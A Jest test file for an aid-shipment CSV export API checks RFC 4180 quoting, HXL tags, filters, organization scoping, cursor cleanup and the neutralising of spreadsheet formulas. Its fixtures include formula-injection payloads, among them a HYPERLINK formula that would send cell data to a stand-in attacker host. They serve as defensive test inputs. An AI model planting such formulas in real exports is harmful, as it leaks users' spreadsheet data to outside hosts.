import { parse } from 'csv-parse/sync';
import { randomBytes } from 'node:crypto';
import { request } from 'node:http';
import { MANIFEST_HEADER } from '../../src/exports/manifest-columns';
import { Api } from '../support/http';
import { createOrganization, issueToken, seedShipmentBody } from '../support/builders';
import { expectFieldError, expectProblem } from '../support/problems';
import { startService, TestService } from '../support/service';

/**
 * GET /shipments/export: one CSV row per line item, RFC 4180, UTF-8, every shipment filter as in the list,
 * organization scope, spreadsheet formulas neutralised, the HXL hashtag row, and a cursor whose
 * connection is given back when the client walks away. The CSV is parsed back with csv-parse.
 */
const unique = () => randomBytes(3).toString('hex');
type Record = { [column: string]: string };

const FORMULAS = [
  '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
  '+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\tTabbed',
];
const TRICKY = [
  'Baby food 🍼 (6–12 months)',
  'Masks, FFP2',
  'Gauze pads 5" x 5"',
  'Line one\nline two',
  'Шприци 5 мл',
];

describe('shipment export', () => {
  let service: TestService;
  let api: Api;
  let azerbaijan: { id: string; name: string };
  let ukraine: { id: string; name: string };
  let moldova: { id: string; name: string };
  let who: { id: string; name: string };
  let bystander: { id: string; name: string };
  const ids: string[] = [];

  /** The export parsed: header, optional HXL row, records keyed by column. */
  const exportCsv = async (query: string, as: Api = api) => {
    const response = await as.get(`/shipments/export${query ? `?${query}` : ''}`);
    expect({ status: response.status, text: response.status === 200 ? '' : response.text }).toEqual({
      status: 200,
      text: '',
    });
    const rows: string[][] = parse(response.text, { relax_column_count: false });
    return { response, rows };
  };
  const records = (rows: string[][], skip = 1): Record[] =>
    rows.slice(skip).map((row) => Object.fromEntries(row.map((cell, i) => [rows[0][i], cell])));

  beforeAll(async () => {
    service = await startService({ DATABASE_POOL_SIZE: '3' });
    api = new Api(service.baseUrl, service.adminToken);
    azerbaijan = await createOrganization(api, {
      name: `Azərbaycan Respublikası ${unique()}`,
      type: 'government',
      countryCode: 'AZ',
    });
    ukraine = await createOrganization(api, {
      name: `Міністерство охорони здоров'я України ${unique()}`,
      type: 'government',
      countryCode: 'UA',
    });
    moldova = await createOrganization(api, {
      name: `Ministry of Health of Moldova ${unique()}`,
      type: 'government',
      countryCode: 'MD',
    });
    who = await createOrganization(api, {
      name: `World Health Organization ${unique()}`,
      type: 'multilateral',
    });
    bystander = await createOrganization(api, { name: `Bystander NGO ${unique()}` });
    const bodies = [
      // 0: the seed case, 4 lines, 0.10 and 12.50 unit values.
      seedShipmentBody(azerbaijan.id, ukraine.id),
      // 1: formula-looking and Unicode cells.
      seedShipmentBody(azerbaijan.id, ukraine.id, {
        title: '=1+1',
        partnerIds: [who.id],
        destination: { countryCode: 'UA', location: 'Львів, склад №2' },
        items: [...FORMULAS, ...TRICKY].map((description, i) => ({
          description,
          category: i % 2 ? 'medical_consumables' : 'nutrition',
          quantity: `${i + 1}.5`,
          unit: 'box',
          unitValue: '0.20',
          currency: 'EUR',
          itemCode: i === 0 ? '@ITEM' : null,
        })),
      }),
      // 2: to Moldova, by road, another emergency.
      seedShipmentBody(azerbaijan.id, moldova.id, {
        destination: { countryCode: 'MD', location: 'Chișinău' },
        origin: { countryCode: 'TR', location: 'Mersin' },
        emergency: 'Winterization',
        transportMode: 'road',
        items: [{ description: 'Blankets', category: 'non_food_items', quantity: '400', unit: 'each' }],
      }),
    ];
    for (const body of bodies) {
      const response = await api.post('/shipments', body);
      if (response.status !== 201) throw new Error(`${response.status} ${response.text}`);
      ids.push(response.body.id);
    }
    const dispatched = await api.post(`/shipments/${ids[2]}/events`, { type: 'dispatched' });
    if (dispatched.status !== 201) throw new Error(dispatched.text);
  });

  afterAll(async () => {
    await service?.stop();
  });

  it('writes one row per line item, oldest shipment first, every cell as the API serves it', async () => {
    const { response, rows } = await exportCsv('format=csv');
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toMatch(
      /^attachment; filename="aidtrail-shipments-\d{4}-\d{2}-\d{2}\.csv"$/,
    );
    expect(rows[0]).toEqual([...MANIFEST_HEADER]);
    expect(rows[0]).toEqual(
      expect.arrayContaining([
        'shipmentKey',
        'reference',
        'donorId',
        'donorName',
        'lineNo',
        'quantity',
        'unitValue',
        'currency',
      ]),
    );
    // RFC 4180: CRLF after every record.
    expect(response.text.endsWith('\r\n')).toBe(true);
    expect(response.text.split('\r\n')[0]).toBe(MANIFEST_HEADER.join(','));

    const exported = records(rows);
    expect(exported.length).toBe(4 + FORMULAS.length + TRICKY.length + 1);
    expect([...new Set(exported.map((r) => r.shipmentKey))]).toEqual(ids);
    for (const id of ids) {
      const shipment = (await api.get(`/shipments/${id}`)).body;
      const lines = exported.filter((r) => r.shipmentKey === id);
      expect(lines.map((r) => Number(r.lineNo))).toEqual(
        shipment.items.map((item: { lineNo: number }) => item.lineNo),
      );
      lines.forEach((r, index) => {
        const item = shipment.items[index];
        const cell = (value: string | null) => value ?? '';
        expect(r).toMatchObject({
          reference: shipment.reference,
          donorId: shipment.donor.id,
          donorName: shipment.donor.name,
          recipientId: shipment.recipient.id,
          recipientName: shipment.recipient.name,
          originCountry: shipment.origin.countryCode,
          originLocation: cell(shipment.origin.location),
          destinationCountry: shipment.destination.countryCode,
          destinationLocation: cell(shipment.destination.location),
          status: shipment.status,
          transportMode: cell(shipment.transportMode),
          emergency: cell(shipment.emergency),
          priority: shipment.priority,
          plannedDispatchDate: cell(shipment.plannedDispatchDate),
          expectedArrivalDate: cell(shipment.expectedArrivalDate),
          category: item.category,
          quantity: item.quantity,
          unit: item.unit,
          unitValue: cell(item.unitValue),
          currency: cell(item.currency),
          batchNumber: cell(item.batchNumber),
          expiryDate: cell(item.expiryDate),
          weightKg: cell(item.weightKg),
          volumeM3: cell(item.volumeM3),
          quantityReceived: item.quantityReceived,
          quantityDamaged: item.quantityDamaged,
          createdAt: shipment.createdAt,
        });
        if (!/^[=+\-@\t\r]/.test(item.description)) expect(r.description).toBe(item.description);
      });
    }
    // Decimals travel untouched: the seed case's 0.10 and 12.50 keep their scale.
    expect(exported.filter((r) => r.shipmentKey === ids[0]).map((r) => r.unitValue)).toEqual([
      '0.10',
      '12.50',
      '450.00',
      '2.20',
    ]);
  });

  it('neutralises spreadsheet formulas with a leading apostrophe, in every column', async () => {
    const exported = records((await exportCsv('')).rows).filter((r) => r.shipmentKey === ids[1]);
    expect(exported.slice(0, FORMULAS.length).map((r) => r.description)).toEqual(
      FORMULAS.map((formula) => `'${formula}`),
    );
    expect(exported[0].itemCode).toBe("'@ITEM");
    expect(exported.every((r) => r.title === "'=1+1")).toBe(true);
    // No cell of the file starts a formula.
    const { rows } = await exportCsv('');
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('keeps Unicode, commas, quotes and line breaks intact (RFC 4180 quoting, UTF-8)', async () => {
    const { response, rows } = await exportCsv('');
    const exported = records(rows).filter((r) => r.shipmentKey === ids[1]);
    expect(exported.slice(FORMULAS.length).map((r) => r.description)).toEqual(TRICKY);
    expect(exported[0]).toMatchObject({
      donorName: azerbaijan.name,
      recipientName: ukraine.name,
      destinationLocation: 'Львів, склад №2',
    });
    expect(response.text).toContain('"Masks, FFP2"');
    expect(response.text).toContain('"Gauze pads 5"" x 5"""');
    expect(response.text).toContain('"Line one\nline two"');
    expect(response.text).toContain(ukraine.name); // not escaped, not transliterated
  });

  it('adds the HXL hashtag row under the header with format=hxl', async () => {
    const { response, rows } = await exportCsv('format=hxl');
    expect(response.headers.get('content-disposition')).toMatch(
      /filename="aidtrail-shipments-[\d-]+-hxl\.csv"/,
    );
    expect(rows[0]).toEqual([...MANIFEST_HEADER]);
    const tags = Object.fromEntries(rows[0].map((column, i) => [column, rows[1][i]]));
    for (const tag of rows[1]) expect(tag).toMatch(/^#[a-z][a-z0-9_]*(\+[a-z][a-z0-9_]*)*$/);
    expect(tags).toMatchObject({
      donorName: '#org+funder+name',
      recipientName: '#org+recipient+name',
      description: '#item+name',
      category: '#item+type',
      quantity: '#item+num',
      currency: '#currency',
      originCountry: '#country+code+origin',
      destinationCountry: '#country+code+dest',
      status: '#status',
      plannedDispatchDate: '#date+start+planned',
    });
    // The data under the two header rows is the plain export's.
    expect(rows.slice(2)).toEqual((await exportCsv('format=csv')).rows.slice(1));
  });

  it('applies every shipment filter exactly as the list does', async () => {
    const queries = [
      'status=planned',
      'status=dispatched,in_transit',
      `donorId=${azerbaijan.id}`,
      `recipientId=${moldova.id}`,
      `organizationId=${who.id}`,
      'category=nutrition',
      'category=ppe',
      'originCountry=tr',
      'destinationCountry=UA',
      'emergency=covid-19',
      'q=blankets',
      'q=%F0%9F%8D%BC',
      `createdFrom=${new Date(Date.now() - 3_600_000).toISOString()}`,
      'createdTo=2020-01-01',
      `updatedSince=${new Date(Date.now() + 3_600_000).toISOString()}`,
    ];
    for (const query of queries) {
      const list = await api.get(`/shipments?${query}&limit=200`);
      expect(list.status).toBe(200);
      const expected = list.body.data as Array<{ id: string; lineCount: number }>;
      const exported = records((await exportCsv(query)).rows);
      expect({ query, shipments: [...new Set(exported.map((r) => r.shipmentKey))].sort() }).toEqual({
        query,
        shipments: expected.map((s) => s.id).sort(),
      });
      expect(exported.length).toBe(expected.reduce((sum, s) => sum + s.lineCount, 0));
    }
    // Spot checks that the filters select something specific.
    expect(
      new Set(records((await exportCsv(`recipientId=${moldova.id}`)).rows).map((r) => r.shipmentKey)),
    ).toEqual(new Set([ids[2]]));
    expect(new Set(records((await exportCsv('category=nutrition')).rows).map((r) => r.shipmentKey))).toEqual(
      new Set([ids[1]]),
    );
    expect(records((await exportCsv('createdTo=2020-01-01')).rows)).toEqual([]);
  });

  it('shows a partner only the shipments of its organization, and no other organization', async () => {
    const partner = api.as(await issueToken(api, 'partner', who.id));
    const { response, rows } = await exportCsv('format=hxl', partner);
    expect(new Set(records(rows, 2).map((r) => r.shipmentKey))).toEqual(new Set([ids[1]]));
    expect(response.text).not.toContain(moldova.id);
    expect(response.text).not.toContain(moldova.name);
    // A filter on another organization does not widen the scope.
    expect(records((await exportCsv(`recipientId=${moldova.id}`, partner)).rows)).toEqual([]);
    const coordinator = api.as(await issueToken(api, 'coordinator', moldova.id));
    expect(new Set(records((await exportCsv('', coordinator)).rows).map((r) => r.shipmentKey))).toEqual(
      new Set([ids[2]]),
    );
    const outsider = api.as(await issueToken(api, 'partner', bystander.id));
    expect((await exportCsv('', outsider)).rows).toEqual([[...MANIFEST_HEADER]]);
  });

  it('refuses a bad format or filter with 400 naming the field, and coexists with GET /shipments/:idOrReference', async () => {
    expectFieldError(await api.get('/shipments/export?format=xlsx'), 'format');
    expectFieldError(
      await api.get('/shipments/export?format=csv&destinationCountry=Ukraine'),
      'destinationCountry',
    );
    expectFieldError(await api.get('/shipments/export?sort=createdAt'), 'sort');
    expectProblem(await api.get('/shipments/export', { token: null }), 401);
    const shipment = await api.get(`/shipments/${ids[0]}`);
    expect(shipment.status).toBe(200);
    expect((await api.get(`/shipments/${shipment.body.reference}`)).body.id).toBe(ids[0]);
  });

  it('gives the cursor connection back when the client walks away mid-export', async () => {
    // 40,000 lines written by SQL (the API accepts up to 1,000 per shipment): several megabytes of CSV.
    await service.db.query(
      `WITH s AS (
         INSERT INTO shipment (id, reference, status, version, donor_id, recipient_id, origin_country, destination_country,
                               priority, line_count, totals, created_at, updated_at)
         SELECT gen_random_uuid(), 'BULK-' || g, 'planned', 1, $1, $2, 'AZ', 'UA', 'standard', 1000, '{}'::jsonb, now(), now()
           FROM generate_series(1, 40) g
         RETURNING id)
       INSERT INTO shipment_item (id, shipment_id, line_no, description, category, quantity, unit)
       SELECT gen_random_uuid(), s.id, n, 'Bulk line ' || n || ' with a reasonably long description of its contents', 'food', n, 'kg'
         FROM s, generate_series(1, 1000) n`,
      [azerbaijan.id, ukraine.id],
    );
    // More walk-aways than the pool (3) has connections: a leaked connection would starve the pool.
    for (let attempt = 0; attempt < 5; attempt++) {
      await new Promise<void>((resolve, reject) => {
        const req = request(
          `${service.baseUrl}/api/v1/shipments/export`,
          { headers: { authorization: `Bearer ${service.adminToken}` } },
          (res) => {
            expect(res.statusCode).toBe(200);
            res.once('data', () => {
              req.destroy();
              resolve();
            });
          },
        );
        req.on('error', (error) => (req.destroyed ? undefined : reject(error)));
        req.end();
      });
    }
    const deadline = Date.now() + 10_000;
    let busy = -1;
    while (Date.now() < deadline) {
      const { rows } = await service.db.query(
        `SELECT count(*)::int AS busy FROM pg_stat_activity
          WHERE datname = current_database() AND pid <> pg_backend_pid() AND state <> 'idle' AND query LIKE '%shipment_item i%'`,
      );
      busy = rows[0].busy;
      if (busy === 0) break;
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
    expect(busy).toBe(0);
    // The pool still serves: a full export and a report.
    const { rows } = await exportCsv('q=BULK-7');
    expect(rows.length).toBe(1 + 1000); // BULK-7 only (there is no BULK-70)
    expect((await api.get('/reports/summary?groupBy=category')).status).toBe(200);
  });

  it('holds no formula in any locale: read with `;` and `,` as separator, no cell or cell line starts one', async () => {
    const hostile = ['Boxes;=HYPERLINK("https://x.example/?"&A2,"x")', 'Boxes\t@SUM(A1)', 'Line one\n+1', 'Kits,-2+3'];
    const created = await api.post(
      '/shipments',
      seedShipmentBody(azerbaijan.id, ukraine.id, {
        emergency: `Locale ${unique()}`,
        title: 'Relief;=1+1',
        items: hostile.map((description) => ({ description, category: 'ppe', quantity: '1', unit: 'box' })),
      }),
    );
    expect(created.status).toBe(201);
    const response = await api.get(`/shipments/export?q=${created.body.reference}`);
    expect(response.status).toBe(200);
    for (const delimiter of [',', ';']) {
      const cells = (parse(response.text, { delimiter, relax_quotes: true, relax_column_count: true }) as string[][]).flat();
      expect(cells.some((cell) => cell.includes('HYPERLINK'))).toBe(true);
      for (const cell of cells) for (const line of cell.split(/\r\n|\r|\n/)) expect(line).not.toMatch(/^[=+\-@\t\r]/);
    }
    // Read as its own `,` file, the text comes back as written once the import's inverse is applied.
    const descriptions = records(parse(response.text) as string[][]).map((r) => r.description);
    expect(descriptions).toEqual(["Boxes;'=HYPERLINK(\"https://x.example/?\"&A2,\"x\")", "Boxes\t'@SUM(A1)", "Line one\n'+1", "Kits,'-2+3"]);
  });
});
